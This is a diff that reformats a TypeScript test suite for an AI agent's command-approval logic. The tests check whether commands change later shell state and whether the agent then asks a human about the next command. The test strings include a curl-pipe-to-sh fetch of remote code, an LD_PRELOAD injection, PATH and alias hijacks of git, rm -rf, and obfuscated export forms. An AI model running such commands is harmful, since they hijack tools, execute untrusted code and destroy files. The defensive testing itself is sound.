@@ -6,29 +6,106 @@ import { begin, call, plays, says } from '../agent/story';
 
 describe('what stays in the shell', () => {
   it('is told from what runs in a shell of its own', () => {
-    for (const text of ['export PATH=.:$PATH', 'PATH=.:$PATH', 'cd x && alias git=./x', 'if true; then export A_B=1; fi', '{ trap "x" EXIT; }', 'f() { ls; }', 'source ./x', '. ./x', 'eval "$x"', '$x PATH=.', 'builtin export PATH=.', '\\export PATH=.', "e''xport PATH=.", 'LD_PRELOAD=./x.so', 'for PATH in .; do :; done', 'read PATH < x', 'printf -v PATH x', 'false || unset PATH', 'echo "', 'rm -rf src; hash -p ./x git', 'echo x | read PATH']) assert.ok(staysInShell(text), text);
-    for (const text of ['rm -rf src', 'git push', '(export PATH=.)', 'PATH=. ls', "bash -c 'export PATH=.'", 'export PATH=. &', 'echo export PATH=.', 'for f in a b; do rm "$f"; done', 'x=1; rm -rf "$x"', 'curl https://x.example | sh', '[[ -n $x ]] && npm publish', 'export PATH=. | cat', 'printf "%s" x > /etc/x', 'export NODE_ENV=test CI=1']) assert.ok(!staysInShell(text), text);
+    for (const text of [
+      'export PATH=.:$PATH',
+      'PATH=.:$PATH',
+      'cd x && alias git=./x',
+      'if true; then export A_B=1; fi',
+      '{ trap "x" EXIT; }',
+      'f() { ls; }',
+      'source ./x',
+      '. ./x',
+      'eval "$x"',
+      '$x PATH=.',
+      'builtin export PATH=.',
+      '\\export PATH=.',
+      "e''xport PATH=.",
+      'LD_PRELOAD=./x.so',
+      'for PATH in .; do :; done',
+      'read PATH < x',
+      'printf -v PATH x',
+      'false || unset PATH',
+      'echo "',
+      'rm -rf src; hash -p ./x git',
+      'echo x | read PATH',
+    ])
+      assert.ok(staysInShell(text), text);
+    for (const text of [
+      'rm -rf src',
+      'git push',
+      '(export PATH=.)',
+      'PATH=. ls',
+      "bash -c 'export PATH=.'",
+      'export PATH=. &',
+      'echo export PATH=.',
+      'for f in a b; do rm "$f"; done',
+      'x=1; rm -rf "$x"',
+      'curl https://x.example | sh',
+      '[[ -n $x ]] && npm publish',
+      'export PATH=. | cat',
+      'printf "%s" x > /etc/x',
+      'export NODE_ENV=test CI=1',
+    ])
+      assert.ok(!staysInShell(text), text);
   });
 });
 
 describe('after a command that changes the shell for later ones', () => {
   const story = async (...commands: string[]) => {
     const ran: string[] = [];
-    const terminal = { async run(command: string) { ran.push(command); return { end: 'exited' as const, exitCode: 0, output: '', outputBytes: 0, durationMs: 1, cwd: '/work' }; }, answer: null!, dispose: async () => {} };
-    const conversation = await begin(plays(...commands.map((command, index) => says('', call('run_command', { command }, `c${index}`))), says('bye')), { parts: { tools: [runCommand], environment: { root: '/work', files: null!, search: null!, terminal } }, first: { cwd: '/work' } }).go();
-    return { ran, conversation, waiting: () => undecidedActions(conversation.history), async agree() { for (const { id } of undecidedActions(conversation.history)) conversation.decide(id, true); await conversation.rested(); } };
+    const terminal = {
+      async run(command: string) {
+        ran.push(command);
+        return { end: 'exited' as const, exitCode: 0, output: '', outputBytes: 0, durationMs: 1, cwd: '/work' };
+      },
+      answer: null!,
+      dispose: async () => {},
+    };
+    const conversation = await begin(
+      plays(...commands.map((command, index) => says('', call('run_command', { command }, `c${index}`))), says('bye')),
+      {
+        parts: { tools: [runCommand], environment: { root: '/work', files: null!, search: null!, terminal } },
+        first: { cwd: '/work' },
+      },
+    ).go();
+    return {
+      ran,
+      conversation,
+      waiting: () => undecidedActions(conversation.history),
+      async agree() {
+        for (const { id } of undecidedActions(conversation.history)) conversation.decide(id, true);
+        await conversation.rested();
+      },
+    };
   };
 
   it('the next one is asked about, whatever it is, and told why; those behind it are not, until the shell is changed again', async () => {
-    const { ran, waiting, agree } = await story('ls', 'export PATH=.:$PATH', 'git status', 'ls src', 'alias ls=./x', 'ls src');
+    const { ran, waiting, agree } = await story(
+      'ls',
+      'export PATH=.:$PATH',
+      'git status',
+      'ls src',
+      'alias ls=./x',
+      'ls src',
+    );
     assert.deepEqual([waiting().map(({ id }) => id), ran], [['c1'], ['ls']]);
     await agree();
-    assert.deepEqual(waiting().map(({ id }) => id), ['c2']);
+    assert.deepEqual(
+      waiting().map(({ id }) => id),
+      ['c2'],
+    );
     assert.match(waiting()[0]!.risk.reasons.join(' '), /An earlier command changed the shell.*export PATH=\.:\$PATH/);
     await agree();
-    assert.deepEqual([waiting().map(({ id }) => id), ran.at(-1)], [['c4'], 'ls src'], 'one answer is for those that follow');
+    assert.deepEqual(
+      [waiting().map(({ id }) => id), ran.at(-1)],
+      [['c4'], 'ls src'],
+      'one answer is for those that follow',
+    );
     await agree();
-    assert.deepEqual(waiting().map(({ id }) => id), ['c5']);
+    assert.deepEqual(
+      waiting().map(({ id }) => id),
+      ['c5'],
+    );
     assert.match(waiting()[0]!.risk.reasons.join(' '), /alias ls=\.\/x/);
     await agree();
     assert.deepEqual(waiting(), []);
